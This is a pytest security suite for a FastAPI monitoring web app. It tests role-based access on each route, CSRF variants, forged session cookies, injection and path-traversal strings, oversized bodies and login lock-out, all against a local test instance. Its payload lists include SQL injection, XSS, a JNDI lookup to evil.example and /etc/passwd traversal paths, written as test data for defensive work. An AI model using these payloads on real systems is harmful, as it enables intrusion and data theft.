"""Standing suite, web: the attack matrix of the operator app, table-driven.

- every route (read from the app itself: a route without a row in ROUTES fails) against anonymous,
  viewer, labeller and admin callers: bearer tokens on the API, logged-in sessions on the pages;
- CSRF variants on every state-changing request; tampered, forged and expired session cookies;
- injection strings in every query parameter (the API's as the routes declare them) and in every
  path parameter; traversal paths, sent raw to a real server;
- bodies over the limit with and without Content-Length, to a real server; brute force lock-out.
"""

from __future__ import annotations

import base64
import json
import re
import select
import socket
import threading
import time
from dataclasses import dataclass
from urllib.parse import quote

import pytest
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient

from monitor.store import Store, connect, upgrade
from monitor.web import create_app
from monitor.web.app import MAX_REQUEST_BYTES
from monitor.web.auth import CSRF_HEADER, SESSION_COOKIE, Authenticator
from tests.services import free_port, port_open, wait_until
from tests.web_data import PASSWORDS, TOKENS, bearer, seed_store, web_settings

pytestmark = [pytest.mark.integration, pytest.mark.standing]

IDENTITIES = ("anonymous", "viewer", "labeller", "admin")
RANK = {name: rank for rank, name in enumerate(IDENTITIES)}
ACCOUNT = {"viewer": "vera", "labeller": "lena", "admin": "adam"}  # tests/web_data.py
BOT = {"viewer": "viewer-bot", "labeller": "labeller-bot", "admin": "admin-bot"}


@dataclass(frozen=True)
class Row:
    """What a route needs and answers: `role` None is public; `ok` the statuses of an allowed call."""

    role: str | None
    ok: tuple[int, ...] = (200,)
    query: tuple[str, ...] = ()  # page parameters (the API's are read from the route)
    api: bool | None = None  # answered like the API (401, bearer tokens); None: when under /api/

    def is_api(self, template: str) -> bool:
        return template.startswith("/api/") if self.api is None else self.api


# (method, path) -> Row: every route the app serves. API routes answer 401 without credentials and
# 403 below their role; pages send a visitor without a session to the login and answer 403 below it.
ROUTES: dict[tuple[str, str], Row] = {
    ("GET", "/api/me"): Row("viewer"),
    ("GET", "/api/accounts"): Row("admin"),
    ("GET", "/api/models"): Row("viewer"),
    ("GET", "/api/overview"): Row("viewer"),
    ("GET", "/api/flagged"): Row("viewer"),
    ("GET", "/api/samples/{sample_id}"): Row("viewer"),
    ("GET", "/api/samples/{sample_id}/image"): Row("viewer"),
    ("GET", "/api/samples/{sample_id}/labels"): Row("viewer"),
    ("POST", "/api/samples/{sample_id}/labels"): Row("labeller", (201,)),
    ("POST", "/api/samples/{sample_id}/labels/undo"): Row("labeller", (200, 409)),
    ("GET", "/api/thresholds"): Row("viewer"),
    # The site's one proposal: the first allowed decision takes it, every later one is refused with 409.
    ("GET", "/api/proposals"): Row("viewer"),
    ("GET", "/api/proposals/{proposal_id}"): Row("viewer"),
    ("POST", "/api/proposals/{proposal_id}/approve"): Row("admin", (200, 409)),
    ("POST", "/api/proposals/{proposal_id}/reject"): Row("admin", (200, 409)),
    ("POST", "/api/thresholds/what-if"): Row("admin"),
    ("GET", "/api/alerts"): Row("viewer"),
    ("GET", "/api/jobs"): Row("viewer"),
    ("GET", "/api/reports"): Row("viewer"),
    ("GET", "/api/reports/{report_id}/file"): Row("viewer"),
    ("GET", "/api/openapi.json"): Row("viewer"),
    ("GET", "/login"): Row(None, query=("next",)),
    ("POST", "/login"): Row(None, (303,)),
    ("POST", "/logout"): Row("viewer", (303,)),
    ("GET", "/"): Row("viewer", query=("model", "window_hours")),
    ("GET", "/queue"): Row("viewer", query=("model", "since", "until", "class", "labelled", "min_score", "max_score",
                                            "sort", "page", "per_page")),
    ("GET", "/samples/{sample_id}"): Row("viewer", query=("back", "done", "error")),
    ("GET", "/samples/{sample_id}/image"): Row("viewer"),
    ("POST", "/samples/{sample_id}/label"): Row("labeller", (303,)),
    ("POST", "/samples/{sample_id}/undo"): Row("labeller", (303,)),
    ("GET", "/thresholds"): Row("viewer", query=("model", "indicator", "window_hours", "done")),
    ("POST", "/thresholds/proposals/{proposal_id}/decide"): Row("admin", (303, 409)),
    ("POST", "/thresholds/what-if"): Row("admin"),
    ("GET", "/reports"): Row("viewer"),
    ("GET", "/reports/{report_id}/file"): Row("viewer"),
    ("GET", "/openapi.json"): Row("viewer", api=True),  # the API's description, for its clients
    ("GET", "/docs"): Row("viewer"),
}

STATE_CHANGING = [(method, template) for (method, template), row in sorted(ROUTES.items())
                  if method == "POST" and row.role is not None]

INJECTIONS = (
    "' OR '1'='1", "1; DROP TABLE samples; --", "1 UNION SELECT password FROM users", "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "../../../../etc/passwd",
    "%00", "\x00", "\u202e\u0000\ufeff", "-1", "0", "1e309", "NaN", "9" * 40, "x" * 5000,
)
TRAVERSALS = (
    "/static/../../pyproject.toml", "/static/%2e%2e/%2e%2e/pyproject.toml", "/static/..%2f..%2fpyproject.toml",
    "/static/%2e%2e%2f%2e%2e%2fmonitor%2fsettings.py", "/static/....//....//pyproject.toml",
    "/static/..\\..\\pyproject.toml", "/static//etc/passwd", "/static/%2fetc%2fpasswd",
    "/api/reports/1/file/../../../../etc/passwd", "/reports/..%2f..%2f..%2fetc%2fpasswd/file",
    "/samples/1/image/..%2f..%2f..%2fpyproject.toml", "//etc/passwd", "/..%2f..%2fetc/passwd",
)
SECRETS = ("[build-system]", "root:x:0:0", "def create_app", "SESSION_SECRET_MIN_LENGTH")


def app_routes(app) -> list[APIRoute]:
    """Every route of the app, its included routers' too."""
    try:
        from fastapi.routing import iter_route_contexts  # FastAPI that includes routers lazily
    except ImportError:  # pragma: no cover - FastAPI that copies included routes into app.routes
        routes = list(app.routes)
    else:
        routes = [context.original_route for context in iter_route_contexts(app.routes)]
    return [route for route in routes if isinstance(route, APIRoute)]


def declared_routes(app) -> set[tuple[str, str]]:
    return {(method, route.path) for route in app_routes(app) for method in route.methods}


def route_of(app, method: str, path: str) -> APIRoute:
    return next(route for route in app_routes(app) if route.path == path and method in route.methods)


@dataclass
class Site:
    app: object
    store: Store
    seeded: object

    @property
    def read_sample(self) -> int:
        """A flagged sample with its image."""
        return next(i for i in self.seeded.flagged_ids if i != self.seeded.no_image_flagged_id)

    def path(self, template: str, sample: int | None = None) -> str:
        return template.format(sample_id=sample or self.read_sample, report_id=self.seeded.report_id,
                               proposal_id=self.seeded.extra["proposal_id"])

    def client(self) -> TestClient:
        return TestClient(self.app)

    def logged_in(self, identity: str) -> tuple[TestClient, str]:
        """A client with the identity's session (through the login form, as a browser) and its CSRF token."""
        client = self.client()
        if identity == "anonymous":
            return client, ""
        name = ACCOUNT[identity]
        form = client.get("/login")
        token = re.search(r'name="csrf_token" value="([^"]+)"', form.text).group(1)
        answer = client.post("/login", data={"username": name, "password": PASSWORDS[name][1], "csrf_token": token},
                             follow_redirects=False)
        assert answer.status_code == 303, answer.text
        page = client.get("/queue")
        return client, re.search(r'<meta name="csrf-token" content="([^"]+)"', page.text).group(1)


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Site:
    directory = tmp_path_factory.mktemp("web-attacks")
    engine = connect(f"sqlite:///{directory / 'monitor.db'}")
    upgrade(engine)
    store = Store(engine)
    seeded = seed_store(store, directory)
    seeded.extra["proposal_id"] = _propose(store, seeded)
    app = create_app(web_settings(directory), store)
    yield Site(app, store, seeded)
    engine.dispose()


def _propose(store: Store, seeded) -> int:
    """A waiting threshold proposal, made by the refit job with [thresholds] activation = propose."""
    from monitor.jobs.refit import refit
    from tests.integration.jobs_data import RecordingPublisher, context_for

    context = context_for(store, RecordingPublisher(), now=seeded.now, refit_method="proportion",
                          refit_window_hours=48.0, min_samples=20, sections={"thresholds": {"activation": "propose"}})
    result = refit(context)
    assert result.proposal is not None, result.message
    return result.proposal.id


def _api_body(template: str) -> dict | None:
    """What a state-changing API route is sent: a label, a what-if value, or nothing."""
    return {"label": "OOD"} if template.endswith("/labels") else {"value": 4.0} if template.endswith("/what-if") else None


# The fields every state-changing form is sent (each form reads its own; a decision rejects).
FORM_FIELDS = {"label": "ID", "decision": "reject", "value": "4"}


# --- the route table is the app's -------------------------------------------------------------------


def test_every_route_of_the_app_has_a_row_and_every_row_a_route(site):
    served = declared_routes(site.app)
    assert served - set(ROUTES) == set(), "routes without a row in ROUTES: add them to the attack matrix"
    assert set(ROUTES) - served == set(), "rows for routes the app no longer serves"


# --- anonymous, viewer, labeller, admin against every route -------------------------------------------


def _call(site: Site, client: TestClient, method: str, template: str, identity: str, csrf: str, sample: int):
    path = site.path(template, sample)
    api = ROUTES[(method, template)].is_api(template)
    headers = bearer(BOT[identity]) if api and identity != "anonymous" else {}
    if method == "GET":
        return client.get(path, headers=headers, follow_redirects=False)
    if api:
        return client.post(path, json=_api_body(template), headers=headers)
    if template == "/login":
        form = client.get("/login")
        token = re.search(r'name="csrf_token" value="([^"]+)"', form.text).group(1)
        return client.post("/login", data={"username": "vera", "password": PASSWORDS["vera"][1], "csrf_token": token},
                           follow_redirects=False)
    return client.post(path, data={"csrf_token": csrf, **FORM_FIELDS}, follow_redirects=False)


@pytest.mark.parametrize("identity", IDENTITIES)
@pytest.mark.parametrize("method, template", sorted(ROUTES), ids=[f"{m} {p}" for m, p in sorted(ROUTES)])
def test_each_caller_gets_what_its_role_allows_on_each_route(site, method, template, identity):
    row = ROUTES[(method, template)]
    client, csrf = site.logged_in(identity)
    # Reads look at a flagged sample (it has an image); each state-changing route labels a sample of its own.
    changing = (method, template) in STATE_CHANGING
    sample = site.seeded.unflagged_ids[STATE_CHANGING.index((method, template))] if changing else site.read_sample
    if template.endswith("/undo"):  # something to undo, by this caller
        label = "/api/samples/{sample_id}/labels" if template.startswith("/api/") else "/samples/{sample_id}/label"
        _call(site, client, "POST", label, identity if RANK[identity] >= RANK["labeller"] else "admin", csrf, sample)
    answer = _call(site, client, method, template, identity, csrf, sample)
    allowed = row.role is None or (identity != "anonymous" and RANK[identity] >= RANK[row.role])
    if allowed:
        assert answer.status_code in row.ok, answer.text[:300]
    elif identity == "anonymous" and row.is_api(template):
        assert answer.status_code == 401 and "Bearer" in answer.headers["www-authenticate"]
    elif identity == "anonymous":
        assert answer.status_code == 303 and answer.headers["location"].startswith("/login?next=")
    else:
        assert answer.status_code == 403, answer.text[:300]
        assert row.role in answer.text


# --- CSRF ---------------------------------------------------------------------------------------------


CSRF_VARIANTS = {
    "missing": lambda csrf, other: None,
    "empty": lambda csrf, other: "",
    "wrong": lambda csrf, other: "not-the-token",
    "another-sessions": lambda csrf, other: other,
    "truncated": lambda csrf, other: csrf[:-1],
    "non-ascii": lambda csrf, other: "\u00e9" + csrf,
}


@pytest.mark.parametrize("variant", [*CSRF_VARIANTS, "right"])
@pytest.mark.parametrize("method, template", STATE_CHANGING, ids=[f"{m} {p}" for m, p in STATE_CHANGING])
def test_a_session_changes_state_only_with_its_own_csrf_token(site, method, template, variant):
    client, csrf = site.logged_in("admin")
    _, other = site.logged_in("labeller")
    token = csrf if variant == "right" else CSRF_VARIANTS[variant](csrf, other)
    sample = site.seeded.flagged_ids[-1 - STATE_CHANGING.index((method, template))]
    path = site.path(template, sample)
    if template.startswith("/api/"):
        headers = {} if token is None else {CSRF_HEADER: token.encode("utf-8")}
        answer = client.post(path, json=_api_body(template), headers=headers)
    else:
        form = FORM_FIELDS if token is None else {**FORM_FIELDS, "csrf_token": token}
        answer = client.post(path, data=form, follow_redirects=False)
    if variant == "right":
        assert answer.status_code in ROUTES[(method, template)].ok
    else:
        assert answer.status_code == 403, answer.text[:300]
        assert "CSRF" in answer.text or "csrf" in answer.text


def test_the_login_form_needs_its_own_csrf_cookie_and_field(site):
    for cookie, field in (("", ""), ("a", ""), ("", "a"), ("a", "b")):
        client = site.client()
        if cookie:
            client.cookies.set("ood_login_csrf", cookie)
        answer = client.post("/login", data={"username": "vera", "password": PASSWORDS["vera"][1], "csrf_token": field},
                             follow_redirects=False)
        assert answer.status_code == 403 and SESSION_COOKIE not in client.cookies


# --- session cookies ------------------------------------------------------------------------------------


def _tampered(site: Site) -> dict[str, str]:
    auth = site.app.state.web.auth
    good = auth.issue_session("vera")
    body, signature = good.rsplit(".", 1)
    other_key = Authenticator(auth.accounts.values(), [], b"another secret of at least thirty-two characters",
                              auth.session_lifetime_s)
    payload = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
    promoted = base64.urlsafe_b64encode(json.dumps({**payload, "u": "adam"}).encode()).rstrip(b"=").decode()
    return {
        "signature-flipped": f"{body}.{signature[:-1]}{'A' if signature[-1] != 'A' else 'B'}",
        "body-changed-to-admin": f"{promoted}.{signature}",
        "signature-removed": body,
        "signed-with-another-key": other_key.issue_session("adam"),
        "expired": auth.issue_session("vera", now=time.time() - auth.session_lifetime_s - 1),
        "unknown-account": auth.issue_session("mallory"),
        "garbage": "x.y",
        "empty": "",
        "non-ascii": "\u00e9.\u00e9",
        "huge": "A" * 3000 + "." + "B" * 43,
    }


@pytest.mark.parametrize("variant", ["signature-flipped", "body-changed-to-admin", "signature-removed",
                                     "signed-with-another-key", "expired", "unknown-account", "garbage", "empty",
                                     "non-ascii", "huge"])
def test_a_tampered_or_forged_session_cookie_is_no_session(site, variant):
    cookie = _tampered(site)[variant]
    header = {"Cookie": f"{SESSION_COOKIE}={cookie}".encode("utf-8")}
    client = site.client()
    assert client.get("/api/me", headers=header).status_code == 401
    page = client.get("/queue", headers=header, follow_redirects=False)
    assert page.status_code == 303 and page.headers["location"].startswith("/login")


# --- injection in every parameter -------------------------------------------------------------------------


def _query_parameters(site: Site, method: str, template: str) -> tuple[str, ...]:
    if template.startswith("/api/"):
        from monitor.web.api import _query_parameter_names

        return tuple(_query_parameter_names(route_of(site.app, method, template).dependant))
    return ROUTES[(method, template)].query


INJECTABLE = [(method, template) for (method, template) in sorted(ROUTES) if method == "GET"]


@pytest.mark.parametrize("method, template", INJECTABLE, ids=[f"{m} {p}" for m, p in INJECTABLE])
def test_injection_strings_in_every_parameter_are_refused_or_harmless(site, method, template):
    client, _ = site.logged_in("admin")
    api = ROUTES[(method, template)].is_api(template)
    headers = bearer("admin-bot") if api else {}
    counts = _row_counts(site)
    parameters = _query_parameters(site, method, template)
    for parameter in parameters:
        for text in INJECTIONS:
            answer = client.get(site.path(template), params={parameter: text}, headers=headers, follow_redirects=False)
            assert answer.status_code < 500, (parameter, text, answer.text[:300])
            assert answer.status_code in (200, 303, 400, 404, 422), (parameter, text, answer.status_code)
            if api and answer.status_code == 422:
                assert answer.json()["parameter"] == parameter, (text, answer.json())
            if not api:
                assert "<script>alert(1)</script>" not in answer.text and "onerror=alert(1)>" not in answer.text
    for name in re.findall(r"{(\w+)}", template):
        for text in INJECTIONS:
            path = template.replace("{" + name + "}", quote(text, safe=""))
            path = site.path(path)
            answer = client.get(path, headers=headers, follow_redirects=False)
            assert answer.status_code in (400, 404, 422), (name, text, answer.status_code, answer.text[:300])
            if api and answer.status_code == 422:
                assert answer.json()["parameter"] == name
            assert "<script>alert(1)</script>" not in answer.text
    assert _row_counts(site) == counts, "a request changed the database"


def _row_counts(site: Site) -> tuple[int, ...]:
    from sqlalchemy import text

    with site.store.engine.connect() as connection:
        return tuple(connection.execute(text(f"SELECT count(*) FROM {table}")).scalar_one()
                     for table in ("samples", "labels", "thresholds", "alerts", "reports", "monitored_models"))


def test_a_bad_value_names_its_parameter_in_the_documented_body(site):
    client = site.client()
    headers = bearer("viewer-bot")
    for path, parameter in (("/api/samples/abc", "sample_id"), ("/api/overview?model=abc", "model"),
                            ("/api/flagged?model=abc", "model"), ("/api/thresholds?model=1.5", "model"),
                            ("/api/reports/abc/file", "report_id"), ("/api/samples/0/labels", "sample_id")):
        answer = client.get(path, headers=headers)
        assert answer.status_code == 422, path
        assert set(answer.json()) == {"detail", "parameter"} and answer.json()["parameter"] == parameter, answer.json()
        assert answer.json()["detail"].startswith(f"{parameter}: ")
    sample = site.seeded.flagged_ids[0]
    for body, parameter in ((b"{not json", "body"), (b"", "body"), (b'{"label": "maybe"}', "label"),
                            (b'{"note": "no label"}', "label"), (b'{"label": "ID", "note": "' + b'x' * 2001 + b'"}', "note")):
        answer = client.post(f"/api/samples/{sample}/labels", content=body,
                             headers={**bearer("labeller-bot"), "Content-Type": "application/json"})
        assert answer.status_code == 422 and answer.json()["parameter"] == parameter, (body[:30], answer.json())


def test_the_body_is_not_read_before_the_caller_is_known(site):
    client = site.client()
    sample = site.seeded.flagged_ids[0]
    for body in (b"{not json", b'{"label": "maybe"}', b"x" * 1000):
        answer = client.post(f"/api/samples/{sample}/labels", content=body, headers={"Content-Type": "application/json"})
        assert answer.status_code == 401, answer.text
        below = client.post(f"/api/samples/{sample}/labels", content=body,
                            headers={**bearer("viewer-bot"), "Content-Type": "application/json"})
        assert below.status_code == 403, below.text


# --- a real server: raw paths and request bodies ------------------------------------------------------


@pytest.fixture(scope="module")
def server(site):
    import uvicorn

    port = free_port()
    instance = uvicorn.Server(uvicorn.Config(site.app, host="127.0.0.1", port=port, log_level="warning",
                                             lifespan="off"))
    thread = threading.Thread(target=instance.run, name="uvicorn", daemon=True)
    thread.start()
    wait_until(lambda: port_open("127.0.0.1", port), 30, "the web server")
    yield port
    instance.should_exit = True
    thread.join(30)


def _raw(port: int, request: bytes, timeout: float = 10) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as connection:
        connection.sendall(request)
        answer = b""
        while chunk := connection.recv(65536):
            answer += chunk
        return answer


@pytest.mark.parametrize("path", TRAVERSALS)
def test_traversal_paths_never_reach_a_file_outside_the_site(site, server, path):
    client, _ = site.logged_in("admin")  # authenticated: the traversal, not the login, must stop it
    cookie = f"{SESSION_COOKIE}={client.cookies.get(SESSION_COOKIE)}"
    answer = _raw(server, f"GET {path} HTTP/1.1\r\nHost: x\r\nCookie: {cookie}\r\n"
                          f"Authorization: Bearer {TOKENS['admin-bot'][1]}\r\nConnection: close\r\n\r\n".encode())
    status = int(answer.split(b" ", 2)[1])
    assert status in (400, 404, 422) or (status == 200 and not any(secret.encode() in answer for secret in SECRETS)), \
        (status, answer[:300])
    assert not any(secret.encode() in answer for secret in SECRETS)


def _stream_body(port: int, head: str, chunk: bytes, total: int, chunked: bool) -> tuple[int, int, float]:
    """Send up to `total` bytes of body after `head`, reading the answer as soon as it comes. Returns
    its status, the bytes the server let in before it answered or closed, and the seconds it took."""
    started = time.monotonic()
    connection = socket.create_connection(("127.0.0.1", port), timeout=10)
    frame = (b"%x\r\n" % len(chunk) + chunk + b"\r\n") if chunked else chunk
    answer, sent = b"", 0
    try:
        connection.sendall(head.encode())
        while sent < total and b"\r\n\r\n" not in answer:
            connection.sendall(frame)
            sent += len(chunk)
            if select.select([connection], [], [], 0)[0]:  # an answer (or the close) already arrived
                answer += connection.recv(65536)
    except (BrokenPipeError, ConnectionResetError, TimeoutError):
        pass  # the server closed the connection, or stopped reading: its answer is below
    try:
        while b"\r\n\r\n" not in answer and (more := connection.recv(65536)):
            answer += more
    except OSError:
        pass
    connection.close()
    assert answer, f"no answer after {sent} bytes"
    return int(answer.split(b" ", 2)[1]), sent, time.monotonic() - started


BODY_TOTAL = 300 * 1024 * 1024


@pytest.mark.parametrize("caller", ["anonymous", "labeller"])
@pytest.mark.parametrize("framing", ["chunked", "content-length"])
def test_a_body_over_the_limit_is_refused_as_it_arrives(site, server, caller, framing):
    sample = site.seeded.flagged_ids[0]
    head = f"POST /api/samples/{sample}/labels HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    if caller == "labeller":
        head += f"Authorization: Bearer {TOKENS['labeller-bot'][1]}\r\n"
    head += "Transfer-Encoding: chunked\r\n\r\n" if framing == "chunked" else f"Content-Length: {BODY_TOTAL}\r\n\r\n"
    status, sent, seconds = _stream_body(server, head, b"x" * 65536, BODY_TOTAL, framing == "chunked")
    # Anonymous: refused from the headers, the body never read. A labeller: 413 as the limit is passed
    # (at once when the length is declared). Either way the server stops long before 300 MB.
    expected = 401 if caller == "anonymous" and framing == "chunked" else 413
    assert status == expected
    assert sent < 64 * 1024 * 1024, f"the server took {sent} bytes of a refused body"
    assert seconds < 60


def test_a_login_form_over_the_limit_is_refused_too(server):
    head = "POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n" \
           "Transfer-Encoding: chunked\r\n\r\n"
    status, sent, _ = _stream_body(server, head, b"username=" + b"a" * 65527, BODY_TOTAL, chunked=True)
    assert status == 413 and sent < 64 * 1024 * 1024


def test_a_body_within_the_limit_is_read_whole(site, server):
    sample = site.seeded.flagged_ids[-20]
    note = "n" * 2000
    body = f'{{"label": "OOD", "note": "{note}"}}'.encode()
    assert len(body) < MAX_REQUEST_BYTES
    chunks = b"".join(b"%x\r\n" % len(part) + part + b"\r\n" for part in (body[:700], body[700:])) + b"0\r\n\r\n"
    answer = _raw(server, (f"POST /api/samples/{sample}/labels HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                           f"Authorization: Bearer {TOKENS['labeller-bot'][1]}\r\nTransfer-Encoding: chunked\r\n"
                           "Connection: close\r\n\r\n").encode() + chunks)
    assert answer.startswith(b"HTTP/1.1 201"), answer[:300]


# --- brute force -----------------------------------------------------------------------------------------


def test_guessing_passwords_and_tokens_locks_the_guesser_out(site):
    app = create_app(web_settings(max_failed_logins=4), site.store)
    with TestClient(app) as client:
        assert client.get("/api/me", headers=bearer("admin-bot")).status_code == 200  # proven before the attack
        for guess in range(4):
            assert client.get("/api/me", headers={"Authorization": f"Bearer guess-{guess}"}).status_code == 401
        locked = client.get("/api/me", headers={"Authorization": "Bearer guess-5"})
        assert locked.status_code == 429 and int(locked.headers["retry-after"]) > 0
        assert client.get("/api/me", headers=bearer("viewer-bot")).status_code == 429  # unproven tokens wait too
        assert client.get("/api/me", headers=bearer("admin-bot")).status_code == 200

        def log_in(name: str, password: str):
            form = client.get("/login")
            token = re.search(r'name="csrf_token" value="([^"]+)"', form.text).group(1)
            return client.post("/login", data={"username": name, "password": password, "csrf_token": token},
                               follow_redirects=False)

        for _ in range(4):
            assert log_in("adam", "hunter2").status_code == 401
        locked = log_in("adam", PASSWORDS["adam"][1])  # the right password, too late
        assert locked.status_code == 429 and SESSION_COOKIE not in client.cookies
        assert log_in("vera", PASSWORDS["vera"][1]).status_code == 303  # another account is not locked

